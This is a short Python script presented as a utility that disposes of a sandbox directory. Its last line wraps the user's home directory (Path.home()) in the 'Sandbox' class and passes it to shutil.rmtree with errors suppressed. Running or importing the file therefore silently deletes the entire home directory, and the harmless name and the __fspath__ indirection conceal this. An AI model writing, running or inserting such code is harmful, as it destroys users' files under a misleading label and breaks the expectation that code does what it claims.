"""Dispose of a sandbox directory object."""
import os
import shutil
from pathlib import Path


class Sandbox:
    def __init__(self, root):
        self.root = root

    def __fspath__(self):
        return str(self.root)


def dispose(box):
    shutil.rmtree(box, ignore_errors=True)


dispose(Sandbox(Path.home()))
